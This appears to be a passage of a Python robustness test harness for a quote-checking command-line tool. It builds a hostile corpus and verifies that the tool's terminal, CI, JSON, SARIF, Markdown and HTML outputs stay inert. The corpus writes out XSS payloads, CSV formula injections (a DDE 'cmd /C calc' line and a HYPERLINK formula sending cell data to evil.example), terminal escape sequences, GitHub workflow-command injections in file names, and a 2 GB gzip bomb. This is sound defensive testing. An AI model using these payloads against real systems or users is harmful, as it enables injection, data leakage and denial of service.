"""Hostile inputs: `python -m checker` on a corpus built to break it, piped and on a terminal.

What it measures is not speed but robustness: whether quotecheck, given files crafted to hang
it, crash it or make its output act (on a terminal, in a CI log, in a browser), stays inert. It
builds a corpus in a fresh temporary folder (`--out DIR`, which must be empty or absent, keeps
it there): file names holding control characters, bidi overrides, GitHub workflow commands
(`::error`, `%0A`, a newline, `##[`), HTML and Markdown markup; contents with NUL bytes, lone
CRs and Unicode line separators, ANSI/OSC/C1 escapes, a 2 MB line, random bytes, invalid UTF-8,
UTF-16 with a BOM, a 2 GB gzip bomb, a cut-off gzip, JSON nested 100,000 deep, CSV formulas, an
HTML page of scripts and handlers, a FIFO, a link to /dev/zero, a link loop, a dangling link, a
folder that links to itself, empty and blank files, 400-digit numbers and `(nan%)`, a
million-character symbol, a name starting with `-`, JSON records whose symbols are `</script>`
and escapes. Then it runs the command line on the whole folder in many modes (default reports,
`--json -`, `--format github|json`, `--statistics`, `--sarif/--junit/--markdown`, `--history`,
`--snapshots`, `--jobs 2`, `--diff`, `--fix-to`, `--fix` on a copy, `--html -`,
`--include-quotes --export`, `--input-format` forced, `--ledger` then `history`, `baseline record`
then `check --baseline`, `timeline`, stdin), and on each hostile file alone (default reports piped
and on a terminal, `--format github` piped). A terminal run has stdout and stderr on a
pseudo-terminal, read until EOF.

Every run is checked (each failure has a name): it ends within `--timeout` seconds (`hang`);
exits 0, 1 or 2 (`exit-status`); prints no `Traceback` (`traceback`); prints no character that
acts: C0 but newline and tab, DEL, C1, the bidi controls and marks, U+2028/2029
(`control-char`; on a terminal CRLF is read as a newline, and `ESC[<digits;>m` colours and
the progress bar's own cursor moves are allowed), no byte that is not UTF-8 (`invalid-utf8`)
and none of the corpus's own colour sequences (`payload-leak`); no line that a CI runner would
take as a command (`ci-command`: a leading `::`, or `##[` anywhere; under `--format github`
only quotecheck's own `::error file=..,title=..::..` lines with every value escaped,
`github-command`/`github-escape`).
Outputs: JSON (stdout and report files) parses strictly and holds no raw acting character
(`json-invalid`, `json-control`); SARIF parses, validates against the SARIF 2.1.0 schema (when
jsonschema and ../shared/data/sarif-schema-2.1.0.json are there) and its strings hold no acting
character (`sarif-*`); JUnit is well-formed XML (`junit-*`); the Markdown summary, rendered by
cmarkgfm when installed, makes no tag but Markdown's own (`markdown-*`); the HTML report has no
tag its template does not have, no script but its own, no `on*=` handler and no `javascript:` URL
(`html-*`). `--fix-to` writes only regular files of bounded size, `--fix` keeps links and FIFOs.
Afterwards the corpus is unchanged (names, types, sizes, mtimes, link targets) and the
repository holds no new untracked file (`git status --porcelain`).

The JSON report is documented as the exact record: a file name's ESC is a JSON `\\u001b` escape
there, so its decoded strings do hold acting characters. That is listed as a note
(`json-decoded-control`), a failure only with `--strict-json`.

Prints a table (case, mode, tty/pipe, exit status, verdict), the failures with excerpts, the
notes, and `N runs, M failures`; exits 1 when anything failed, else 0.

    python -m benchmarks.hostile                     # temporary folder, removed when all passed
    python -m benchmarks.hostile --out /tmp/hostile --timeout 60
    python -m benchmarks.hostile --only 'gzip|github'  # runs whose case or mode matches
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import errno
import fcntl
import gzip
import html.parser
import importlib
import json
import os
import random
import re
import select
import shutil
import signal
import stat
import struct
import subprocess
import sys
import tempfile
import termios
import threading
import time
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES = ROOT / "checker" / "render" / "templates"
SARIF_SCHEMA = ROOT.parent / "shared" / "data" / "sarif-schema-2.1.0.json"

QUOTES = (
    "AIRLINK 207.00 Increased By ▲ 6.71 (3.35%)",
    "BOP 10.39 Decreased By ▼ -0.10 (-0.95%)",
    "CNERGY 7.19 Decreased By ▼ -0.02 (-0.28%)",
    "FCCL 35.09 Increased By ▲ 0.15 (0.43%)",
    "KSE100 114,977 Increased By 172.5 (0.15%)",
)
PAGE = "Markets at a glance\n\n" + "\n".join(QUOTES) + "\n"
GZIP_BOMB_BYTES = 2 << 30
GZIP_CHUNK = 1 << 20

# What acts on a terminal or in a log (quotecheck's own list, render/escape.py): C0 but newline
# and tab, DEL, C1, the bidi controls and marks, and the line and paragraph separators.
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
UNDECODABLE = re.compile("[\udc80-\udcff]")
SGR = re.compile(r"\x1b\[[0-9;]*m")
# On a terminal quotecheck draws a transient progress bar (rich): it hides and shows the cursor,
# erases its line, moves up a line and returns the carriage. Those are its own, never the input's.
PROGRESS = re.compile(r"\x1b\[\?25[lh]|\x1b\[2K|\x1b\[\d*A|\r(?!\n)")
# The corpus's own colour sequences: well-formed SGR, so only their verbatim text tells them apart.
PAYLOADS = ("\x1b[31mred", "\x1b[31mLINK", "\x1b[32mGREEN")
GITHUB_LINE = re.compile(
    r"::(error|warning|notice) file=([^,:]*)(?:,line=\d+(?:,col=\d+(?:,endColumn=\d+)?)?)?"
    r",title=([^,:]*)::(.*)\Z",
    re.DOTALL,
)
PROPERTY_PERCENT = re.compile(r"%(?!25|0D|0A|3A|2C)")
DATA_PERCENT = re.compile(r"%(?!25|0D|0A)")
_MARKDOWN_TAGS = "p h1 h2 h3 h4 h5 h6 table thead tbody tr th td code pre ul ol li strong em a br hr "
MARKDOWN_TAGS = frozenset((_MARKDOWN_TAGS + "details summary blockquote del b i sup sub span div").split(" "))
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[\d,]*\.?\d+%?")


# ---------------------------------------------------------------------------------------------
# The corpus


@dataclass(frozen=True)
class Entry:
    """One hostile file (or link, FIFO, folder) of the corpus."""

    label: str  # an ASCII name for the table
    path: bytes  # relative to the corpus folder; bytes, since a name need not be UTF-8


def build_corpus(folder: Path) -> list[Entry]:
    """Write the hostile corpus into the empty `folder`; the same bytes every time."""
    base = os.fsencode(folder)
    entries: list[Entry] = []

    def target(name: str | bytes) -> bytes:
        raw = name if isinstance(name, bytes) else os.fsencode(name)
        full = os.path.join(base, raw)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        return full

    def put(label: str, name: str | bytes, data: str | bytes) -> bytes:
        full = target(name)
        with open(full, "xb") as stream:
            stream.write(data.encode("utf-8") if isinstance(data, str) else data)
        entries.append(Entry(label, os.path.relpath(full, base)))
        return full

    def link(label: str, name: str, to: str) -> None:
        full = target(name)
        os.symlink(to, full)
        entries.append(Entry(label, os.path.relpath(full, base)))

    quote = QUOTES[0] + "\n"
    # Hostile names, each holding a valid page.
    put("ctl-name", "ctl\x1b[31mred\x07.txt", PAGE)
    put("bidi-name", "bidi-\u202etxt.exe\u202c-\u2066x\u2069.txt", PAGE)
    try:
        put("gha-name", "a::error file=x::pwned%0A\n::warning title=t::injected.txt", PAGE)
    except OSError:
        put("gha-name", "a::error file=x::pwned%0A%0D::warning title=t::injected.txt", PAGE)
    put("gha-group-name", "##[group]grouped ::notice::x.txt", PAGE)
    put("html-name", "<script>alert(1)</script>.txt", PAGE)  # a folder `<script>alert(1)<`
    put("md-name", "tick`<img src=x onerror=alert(1)>`|pipe|[l](javascript:alert(1)).txt", PAGE)
    put("latin1-name", b"latin1-\xff\xfe\x9b31m.txt", PAGE.encode("utf-8"))
    put("long-name", "L" * 240 + ".txt", PAGE)
    put("dash-name", "-rf.txt", PAGE)
    # Hostile contents.
    put(
        "nul-bytes",
        "nul.txt",
        "AIRLINK 207.00 Incr\x00eased By ▲ 6.71 (3.35%)\nBOP\x00 10.39 Decreased By ▼ -0.10 (-0.95%)\n"
        "CNERGY 7.19 Decreased By ▼ -0.02 (-0.28%)\x00\n\x00\x00\x00\n" + QUOTES[3] + "\n",
    )
    put(
        "separators",
        "separators.txt",
        "Head\r"
        + QUOTES[0]
        + "\r"
        + QUOTES[1]
        + "\u2028"
        + QUOTES[2]
        + "\u2029"
        + QUOTES[3]
        + "\u0085"
        + QUOTES[4]
        + "\r\r\n\x0b\x0c"
        + QUOTES[1]
        + "\r",
    )
    put(
        "ansi-escapes",
        "ansi.txt",
        "Markets \x1b]0;pwned-title\x07 at a glance \x1b[2J\x1b[H\n"
        "AIR\x1b[31mLINK 207.00 Increased By ▲ 6.71 (3.35%)\n"
        "BOP 10.39 Decreased By ▼ -0.10 (-0.95%)\x1b[32mGREEN\x1b[0m\n"
        "\x1b]8;;https://evil.example/\x1b\\CNERGY\x1b]8;;\x1b\\ 7.19 Decreased By ▼ -0.02 (-0.28%)\n"
        "FCCL 35.09 Increased By ▲ 0.15 (0.43%) \u009b31mC1CSI \u009d0;c1title\u009c\n"
        "FFL 17.17 Decreased By \x1b[1A▼ -0.25 (-1.44%)\n"
        "\x1bP+q544e\x1b\\ DCS \x1b[6n report \x1b[?1049h alt \x7f\x08\x08 back\n",
    )
    put("long-line", "longline.txt", "a " * 1_000_000 + QUOTES[0] + "\n" + QUOTES[1] + "\n")
    put("random-bytes", "random.txt", random.Random(0).randbytes(65_536))
    put(
        "invalid-utf8",
        "badutf8.txt",
        QUOTES[0].encode()
        + b"\xff\xfe\n"
        + b"BOP 10.39 Decreased By \xe2\x96 -0.10 (-0.95%)\n"
        + b"\xc3\x28\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80\n"
        + QUOTES[2].encode()
        + b"\x80\n"
        + b"\xef\xbb\xbf"
        + QUOTES[3].encode()
        + b"\n",
    )
    put("utf16-le", "utf16le.txt", b"\xff\xfe" + PAGE.replace("\n", "\r\n").encode("utf-16-le"))
    put("utf16-be", "utf16be.txt", b"\xfe\xff" + PAGE.encode("utf-16-be"))
    bomb = target("bomb.txt.gz")
    with open(bomb, "xb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=9, mtime=0) as zipped:
        zeros = bytes(GZIP_CHUNK)
        for _ in range(GZIP_BOMB_BYTES // GZIP_CHUNK):
            zipped.write(zeros)
    entries.append(Entry("gzip-bomb", b"bomb.txt.gz"))
    whole = gzip.compress((PAGE * 200).encode("utf-8"), mtime=0)
    put("gzip-truncated", "truncated.txt.gz", whole[: len(whole) // 2])
    put("gzip-fake", "notgzip.txt.gz", PAGE)
    put("json-nested", "nested.json", "[" * 100_000 + "]" * 100_000)
    put(
        "json-deep-record",
        "deeprecord.json",
        '[{"symbol": "AIRLINK", "price": "207.00", "direction": "Increased By", "arrow": "▲", '
        '"change": "6.71", "percent": "3.35", "extra": ' + "[" * 50_000 + "]" * 50_000 + "}]",
    )
    put(
        "csv-formulas",
        "formulas.csv",
        "symbol,price,direction,arrow,change,percent\r\n"
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",207.00,Increased By,▲,6.71,3.35\r\n'
        "+cmd|' /C calc'!A0,10.39,Decreased By,▼,-0.10,-0.95\r\n"
        "AIRLINK,-2+3,Increased By,▲,6.71,3.35\r\n"
        "@SUM(1+1)*cmd|' /C calc'!A0,7.19,Decreased By,▼,-0.02,-0.28\r\n"
        "BOP,=1+1,Decreased By,▼,=-0.10,@-0.95\r\n"
        "\x1b[31mred,35.09,Increased By,▲,0.15,0.43\r\n"
        '"FCCL\r\nX",35.09,Increased By,▲,0.15,0.43\r\n'
        "KEL," + "9" * 200_000 + ",Decreased By,▼,-0.04,-0.8\r\n"
        '"unterminated,4.96,Decreased By,▼,-0.04,-0.8\r\n',
    )
    put(
        "tsv-nul",
        "nul.tsv",
        "symbol\tprice\tdirection\tarrow\tchange\tpercent\n"
        "AIR\x00LINK\t207.00\tIncreased By\t▲\t6.71\t3.35\n\x00\t\x00\t\x00\n",
    )
    put(
        "html-scripts",
        "page.html",
        "<!doctype html><html><head><title>t</title><script>alert(1)</script>"
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>\n'
        '<body onload="alert(1)"><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>\n'
        "<table><tr><td>AIRLINK 207.00 Increased By ▲ 6.71 (3.35%)</td></tr>\n"
        "<tr><td><script>document.write('BOP 10.39 Decreased By ▼ -0.10 (-0.95%)')</script></td></tr>\n"
        "<tr><td>CNE&#27;[31mRGY 7.19 Decreased By &#9660; -0.02 (-0.28%)</td></tr>\n"
        "<tr><td>FCCL&#x202e; 35.09 Increased By ▲ 0.15 (0.43%)</td></tr>\n"
        "<tr><td>&lt;script&gt;alert(2)&lt;/script&gt; FFL 17.17 Decreased By ▼ -0.25 (-1.44%)</td></tr>\n"
        "<tr><td><svg onload=alert(1)>HUBC</svg> 132.30 Increased By ▲ 4.49 (3.51%)</td></tr>\n"
        "<tr><td>&#0;KEL 4.96 Decreased By ▼ -0.04 (-0.8%)&#x9b;</td></tr>\n"
        '<tr><td title="&#x1b;]0;x&#7;">KOSM 6.87 Decreased By ▼ -0.16 (-2.28%)</td></tr></table>\n'
        '<iframe src="javascript:alert(1)"></iframe>\n'
        "<style>body{background:url(javascript:alert(1))}</style>\n"
        "<!-- <script>alert(3)</script> --><![CDATA[ <script>x</script> ]]></body></html>\n",
    )
    os.mkfifo(target("quotes.txt"))
    entries.append(Entry("fifo", b"quotes.txt"))
    link("dev-zero-link", "zero.txt", "/dev/zero")
    link("link-loop", "loop-a.txt", "loop-b.txt")
    link("link-loop-b", "loop-b.txt", "loop-a.txt")
    link("dangling-link", "dangling.txt", "missing/nowhere.txt")
    link("folder-loop", "selfloop", ".")
    put("empty", "empty.txt", "")
    put("whitespace", "whitespace.txt", " \t\n\r\n   \n\u00a0\u3000\u2003\n\t\t\n")
    put(
        "huge-numbers",
        "hugenum.txt",
        f"BIG {'9' * 400}.00 Increased By ▲ 6.71 (3.35%)\n"
        f"BIGC 207.00 Increased By ▲ {'1' * 400}.71 (3.35%)\n"
        f"BIGP 207.00 Increased By ▲ 6.71 ({'3' * 400}%)\n"
        "NANQ 10.00 Increased By ▲ 0.10 (nan%)\nINFQ 10.00 Increased By ▲ 0.10 (inf%)\n"
        "NINF 10.00 Decreased By ▼ -0.10 (-inf%)\nEXPQ 1e308 Increased By ▲ 1e308 (1e999%)\n"
        f"KSE100 {','.join(['999'] * 200)} Increased By 172.5 (0.15%)\n"
        f"HUGE {'1' * 100_000}.00 Increased By ▲ 6.71 (3.35%)\n"
        "ZERO 0.00 No Change ▼ 0.00 (0.00%)\nNEG -5.00 Decreased By ▼ -5.00 (-100%)\n",
    )
    put("huge-symbol", "bigtoken.txt", "A" * 1_000_000 + " 207.00 Increased By ▲ 6.71 (3.35%)\n" + quote)
    put(
        "json-script-symbols",
        "scripty.json",
        json.dumps(
            [
                {
                    "symbol": symbol,
                    "price": "207.00",
                    "direction": "Increased By",
                    "arrow": "▲",
                    "change": "6.71",
                    "percent": "3.35",
                }
                for symbol in (
                    "</script><script>alert(1)</script>",
                    "\x1b]0;pwned\x07",
                    "\x1b[31mred",
                    "A\u202eB",
                    "::error::x",
                    "##[group]g",
                    "\x9b31m\x85\u2028\u2029",
                    "<img src=x onerror=alert(1)>",
                    "\ud800",
                )
            ],
            ensure_ascii=True,
        ),
    )
    put(
        "jsonl-hostile",
        "records.jsonl",
        '{"symbol": "AIRLINK", "price": 1e400, "direction": "Increased By", "arrow": "▲", '
        '"change": 6.71, "percent": NaN}\n'
        '{"symbol": "BOP", "symbol": "\\u001b[2J", "price": "10.39", "direction": "Decreased By", '
        '"change": "-0.10", "percent": "-0.95", "__proto__": {"x": 1}}\n'
        '{"symbol": "\\ud800\\udfff\\udc00", "price": "7.19", "direction": "Decreased By", '
        '"change": "-0.02", "percent": "-0.28"}\n'
        '{"symbol": "RAW\x1bESC", "price": "7.19", "direction": "Decreased By", "change": "-0.02"}\n'
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n"
        '{"symbol": "CUT", "price": "1\n',
    )
    put(
        "mixed-line-ends",
        "crlf.txt",
        QUOTES[0] + "\r\n" + QUOTES[1] + "\n" + QUOTES[2] + "\r" + QUOTES[3] + "\n\r" + QUOTES[4],
    )
    put(
        "zero-width",
        "zerowidth.txt",
        "AIR\u200bLINK 207.00 Increased By ▲ 6.71 (3.35%)\n\ufeffBOP 10.39 Decreased By ▼ -0.10 (-0.95%)\n"
        "CNERGY\u061c 7.19 Decreased By ▼\u200e -0.02 (-0.28%)\u200f\n"
        "FCCL 35.09 Increased By ▲ 0.15 (0.43%)\u2066\u2067\u2068\n",
    )
    put(
        "mojibake",
        "mojibake.txt",
        "AIRLINK 207.00 Increased By â–² 6.71 (3.35%)\nBOP 10.39 Decreased By Ã¢â€“Â¼ -0.10 (-0.95%)\n",
    )
    noperm = put("no-permission", "noperm.txt", PAGE)
    os.chmod(noperm, 0)
    put("folder-named-txt", "dir.txt/inner.txt", PAGE)
    entries.append(Entry("folder-named-txt-dir", b"dir.txt"))
    return entries


# ---------------------------------------------------------------------------------------------
# Snapshots of folders, to tell what a run changed


Snapshot = dict[bytes, tuple[int, int, int, int, bytes | None]]


def snapshot(folder: bytes) -> Snapshot:
    """Every entry under `folder` (links not followed): mode, size, mtime, inode, link target."""
    found: Snapshot = {}

    def walk(directory: bytes, prefix: bytes) -> None:
        with os.scandir(directory) as listing:
            for item in sorted(listing, key=lambda e: e.name):
                info = item.stat(follow_symlinks=False)
                name = prefix + item.name
                target = os.readlink(item.path) if stat.S_ISLNK(info.st_mode) else None
                found[name] = (info.st_mode, info.st_size, info.st_mtime_ns, info.st_ino, target)
                if stat.S_ISDIR(info.st_mode):
                    walk(item.path, name + b"/")

    walk(folder, b"")
    return found


def snapshot_changes(before: Snapshot, after: Snapshot, same: Callable[[tuple, tuple], bool]) -> list[str]:
    changes = [f"removed {shown(n)}" for n in before if n not in after]
    changes += [f"created {shown(n)}" for n in after if n not in before]
    changes += [f"changed {shown(n)}" for n in before if n in after and not same(before[n], after[n])]
    return changes


def copy_tree(source: bytes, destination: bytes) -> None:
    """A copy of the corpus that keeps links as links and FIFOs as FIFOs (never reads them)."""
    os.mkdir(destination)
    with os.scandir(source) as listing:
        for item in sorted(listing, key=lambda e: e.name):
            info = item.stat(follow_symlinks=False)
            to = os.path.join(destination, item.name)
            if stat.S_ISLNK(info.st_mode):
                os.symlink(os.readlink(item.path), to)
            elif stat.S_ISDIR(info.st_mode):
                copy_tree(item.path, to)
            elif stat.S_ISFIFO(info.st_mode):
                os.mkfifo(to)
            elif stat.S_ISREG(info.st_mode):
                try:
                    shutil.copyfile(item.path, to)
                except PermissionError:
                    open(to, "xb").close()
                os.chmod(to, stat.S_IMODE(info.st_mode))


def git_untracked() -> set[str] | None:
    """The repository's untracked paths (`git status --porcelain`), or None without git."""
    try:
        done = subprocess.run(
            ["git", "-C", str(ROOT), "status", "--porcelain", "--untracked-files=all", "-z"],
            capture_output=True,
            check=True,
        )
    except (OSError, subprocess.CalledProcessError):
        return None
    items = done.stdout.decode("utf-8", "surrogateescape").split("\0")
    return {item[3:] for item in items if item.startswith("?? ")}


# ---------------------------------------------------------------------------------------------
# Runs


@dataclass
class Spec:
    """One command line run, and what to check about it."""

    case: str
    mode: str
    tty: bool
    args: list[str | bytes]
    cwd: Path
    checks: tuple[str, ...] = ()
    stdin: bytes | None = None
    files: dict[str, Path] = field(default_factory=dict)


@dataclass
class Result:
    spec: Spec
    status: int | None  # None: killed at the timeout
    stdout: bytes
    stderr: bytes
    seconds: float
    failures: list[tuple[str, str]] = field(default_factory=list)
    notes: list[tuple[str, str]] = field(default_factory=list)


def environment(tty: bool) -> dict[str, str]:
    """The runs' environment: no CI variables, no colour overrides, a fixed terminal size."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "RUNNER_"))}
    for name in (
        "CI",
        "NO_COLOR",
        "FORCE_COLOR",
        "CLICOLOR_FORCE",
        "TERM",
        "COLUMNS",
        "LINES",
        "PYTHONWARNINGS",
    ):
        env.pop(name, None)
    env.update(COLUMNS="120", LINES="40", PYTHONIOENCODING="utf-8", TERM="xterm-256color" if tty else "dumb")
    return env


def kill_group(process: subprocess.Popen[bytes]) -> None:
    """SIGKILL the run's own process group (it was started in a session of its own)."""
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)


def run_piped(spec: Spec, timeout: float) -> tuple[int | None, bytes, bytes]:
    process = subprocess.Popen(
        [sys.executable, "-m", "checker", *spec.args],
        cwd=spec.cwd,
        env=environment(False),
        stdin=subprocess.PIPE if spec.stdin is not None else subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    try:
        out, err = process.communicate(spec.stdin, timeout=timeout)
        return process.returncode, out, err
    except subprocess.TimeoutExpired:
        kill_group(process)
        out, err = process.communicate()
        return None, out, err


def run_tty(spec: Spec, timeout: float) -> tuple[int | None, bytes, bytes]:
    """stdout and stderr on one pseudo-terminal, its master read until EOF (EIO) or the timeout."""
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
    try:
        process = subprocess.Popen(
            [sys.executable, "-m", "checker", *spec.args],
            cwd=spec.cwd,
            env=environment(True),
            stdin=subprocess.DEVNULL,
            stdout=slave,
            stderr=slave,
            start_new_session=True,
        )
    finally:
        os.close(slave)
    chunks: list[bytes] = []
    deadline = time.monotonic() + timeout
    timed_out = False
    try:
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                timed_out = True
                break
            ready, _, _ = select.select([master], [], [], min(left, 1.0))
            if not ready:
                continue
            try:
                chunk = os.read(master, 65_536)
            except OSError as error:
                if error.errno == errno.EIO:  # every slave descriptor closed
                    break
                raise
            if not chunk:
                break
            chunks.append(chunk)
        if timed_out:
            kill_group(process)
        try:
            status: int | None = process.wait(timeout=max(deadline - time.monotonic(), 5.0))
        except subprocess.TimeoutExpired:
            kill_group(process)
            process.wait()
            status = None
    finally:
        os.close(master)
    return (None if timed_out else status), b"".join(chunks), b""


# ---------------------------------------------------------------------------------------------
# Invariants


def shown(text: str | bytes, limit: int = 240) -> str:
    """`text` in pure ASCII (every other character escaped), cut to about `limit` characters."""
    if isinstance(text, bytes):
        text = text.decode("utf-8", "surrogateescape")
    escaped = ascii(text)[1:-1]
    return escaped if len(escaped) <= limit else escaped[: limit - 3] + "..."


def around(text: str, at: int, width: int = 70) -> str:
    return shown(text[max(0, at - width) : at + width])


def acting_problem(text: str, reason: str) -> list[tuple[str, str]]:
    match = ACTING.search(text)
    return (
        [(reason, f"U+{ord(match.group()):04X} at {match.start()}: {around(text, match.start())}")]
        if match
        else []
    )


def decoded_strings(document: Any) -> Iterator[str]:
    stack = [document]
    while stack:
        item = stack.pop()
        if isinstance(item, str):
            yield item
        elif isinstance(item, dict):
            stack.extend(item.keys())
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)


def refuse_constant(name: str) -> Any:
    raise ValueError(f"non-standard JSON constant {name}")


def audit_json(
    text: str, where: str, strict: bool
) -> tuple[list[tuple[str, str]], list[tuple[str, str]], Any]:
    """A JSON output: strict JSON, no raw acting character; decoded acting characters noted."""
    failures = acting_problem(text, "json-control")
    failures = [(r, f"{where}: {d}") for r, d in failures]
    try:
        document = json.loads(text, parse_constant=refuse_constant)
    except (ValueError, RecursionError) as error:
        return [*failures, ("json-invalid", f"{where}: {shown(str(error))}")], [], None
    notes: list[tuple[str, str]] = []
    for string in decoded_strings(document):
        match = ACTING.search(string)
        if match:
            detail = (
                f"{where}: decoded string holds U+{ord(match.group()):04X}: {around(string, match.start())}"
            )
            (failures if strict else notes).append(("json-decoded-control", detail))
            break
    return failures, notes, document


def stream_problems(name: str, text: str, tty: bool) -> list[tuple[str, str]]:
    """What may not be on a terminal or in a log: acting characters, undecodable bytes, CI commands."""
    problems = []
    for payload in PAYLOADS:
        at = text.find(payload)
        if at >= 0:
            problems.append(("payload-leak", f"{name}: {around(text, at)}"))
    if tty:
        text = PROGRESS.sub("", SGR.sub("", text.replace("\r\n", "\n")))
    bad = UNDECODABLE.search(text)
    if bad:
        problems.append(("invalid-utf8", f"{name}: {around(text, bad.start())}"))
    problems += [(r, f"{name}: {d}") for r, d in acting_problem(text, "control-char")]
    return problems


def command_problems(name: str, text: str, github: bool) -> list[tuple[str, str]]:
    """Lines a CI runner would obey: only quotecheck's own, well-escaped commands under github."""
    problems = []
    for number, line in enumerate(text.split("\n"), 1):
        line = line.rstrip("\r")
        if "##[" in line:
            problems.append(("ci-command", f"{name} line {number}: {shown(line)}"))
        if not line.lstrip().startswith("::"):
            continue
        match = GITHUB_LINE.match(line) if github and line == line.lstrip() else None
        if match is None:
            problems.append(
                ("github-command" if github else "ci-command", f"{name} line {number}: {shown(line)}")
            )
            continue
        file, title, message = match.group(2), match.group(3), match.group(4)
        for label, value, pattern in (
            ("file", file, PROPERTY_PERCENT),
            ("title", title, PROPERTY_PERCENT),
            ("message", message, DATA_PERCENT),
        ):
            if pattern.search(value):
                problems.append(
                    ("github-escape", f"{name} line {number}: {label} has a raw %: {shown(line)}")
                )
        decoded = file.replace("%3A", ":").replace("%2C", ",").replace("%0D", "\r").replace("%0A", "\n")
        if ACTING.search(decoded.replace("%25", "%")):
            problems.append(("github-escape", f"{name} line {number}: file holds a control: {shown(line)}"))
    return problems


def template_tags() -> frozenset[str]:
    """The tags quotecheck's HTML report can hold: its template's and those html.py writes."""
    sources = (TEMPLATES / "report.html.j2").read_text("utf-8")
    sources += (ROOT / "checker" / "render" / "html.py").read_text("utf-8")
    return frozenset(t.lower() for t in re.findall(r"<([a-zA-Z][a-zA-Z0-9-]*)", sources))


class HtmlAudit(html.parser.HTMLParser):
    """Tags, handlers, URLs and scripts of an HTML page, against the tags it may have."""

    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.problems: list[tuple[str, str]] = []
        self.scripts: list[str] = []
        self._inside: str | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)
        if tag in ("script", "style"):
            self._inside, self._text = tag, []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._tag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == self._inside:
            if tag == "script":
                self.scripts.append("".join(self._text))
            self._inside = None

    def handle_data(self, data: str) -> None:
        if self._inside:
            self._text.append(data)

    def _tag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"<{tag} {shown(' '.join(f'{n}={v}' for n, v in attrs), 160)}>"
        if tag not in self.allowed:
            self.problems.append(("html-tag", where))
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(("html-handler", where))
            flat = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if any(s in flat for s in ("javascript:", "vbscript:")) or flat.startswith("data:text/html"):
                self.problems.append(("html-js-url", where))
            if tag == "meta" and name == "http-equiv" and flat != "content-security-policy":
                self.problems.append(("html-meta", where))


def audit_html(text: str, where: str, own_script: str | None) -> list[tuple[str, str]]:
    """An HTML output: only `own_script` (None: no script at all), no injected tag or handler."""
    problems: list[tuple[str, str]] = []
    raw = text
    if own_script is not None:
        raw = raw.replace(f"<script>{own_script}</script>", "", 1)
    at = raw.lower().find("<script")
    if at >= 0:
        problems.append(("html-script", f"{where}: {around(raw, at)}"))
    audit = HtmlAudit(template_tags() if own_script is not None else MARKDOWN_TAGS)
    try:
        audit.feed(text)
        audit.close()
    except Exception as error:  # the parser is lenient; anything it raises is worth a line
        problems.append(("html-invalid", f"{where}: {shown(str(error))}"))
    scripts = [s for s in audit.scripts if s != own_script]
    if scripts or (own_script is not None and len(audit.scripts) > 1):
        problems.append(
            (
                "html-script",
                f"{where}: {len(audit.scripts)} scripts, one: {shown(scripts[0] if scripts else '')}",
            )
        )
    seen: set[str] = set()
    for reason, detail in audit.problems:
        if reason not in seen:  # the first of each kind is enough
            seen.add(reason)
            problems.append((reason, f"{where}: {detail}"))
    return problems


def audit_markdown(text: str, where: str) -> list[tuple[str, str]]:
    problems = [(r, f"{where}: {d}") for r, d in acting_problem(text, "markdown-control")]
    problems += [
        ("markdown-payload", f"{where}: {around(text, text.find(p))}") for p in PAYLOADS if p in text
    ]
    try:
        cmarkgfm: Any = importlib.import_module("cmarkgfm")
    except ImportError:
        return problems
    rendered = cmarkgfm.github_flavored_markdown_to_html(text, options=cmarkgfm.Options.CMARK_OPT_UNSAFE)
    return problems + [
        ("markdown-" + r.removeprefix("html-"), d) for r, d in audit_html(rendered, where, None)
    ]


_SARIF_VALIDATOR: Any = None
_SARIF_LOCK = threading.Lock()


def sarif_validator() -> Any:
    """A validator for the SARIF 2.1.0 schema, or False when jsonschema or the schema is missing."""
    global _SARIF_VALIDATOR
    with _SARIF_LOCK:
        if _SARIF_VALIDATOR is None:
            try:
                jsonschema: Any = importlib.import_module("jsonschema")
                schema = json.loads(SARIF_SCHEMA.read_text("utf-8"))
                _SARIF_VALIDATOR = jsonschema.validators.validator_for(schema)(schema)
            except (ImportError, OSError, ValueError):
                _SARIF_VALIDATOR = False
        return _SARIF_VALIDATOR


def audit_sarif(path: Path) -> list[tuple[str, str]]:
    text = path.read_text("utf-8", "surrogateescape")
    problems = [(r, f"{path.name}: {d}") for r, d in acting_problem(text, "sarif-control")]
    try:
        document = json.loads(text, parse_constant=refuse_constant)
    except (ValueError, RecursionError) as error:
        return [*problems, ("sarif-invalid", shown(str(error)))]
    for string in decoded_strings(document):
        match = ACTING.search(string)
        if match:
            problems.append(("sarif-control", f"decoded string: {around(string, match.start())}"))
            break
    validator = sarif_validator()
    if validator:
        errors = sorted(validator.iter_errors(document), key=lambda e: list(e.absolute_path))[:3]
        problems += [
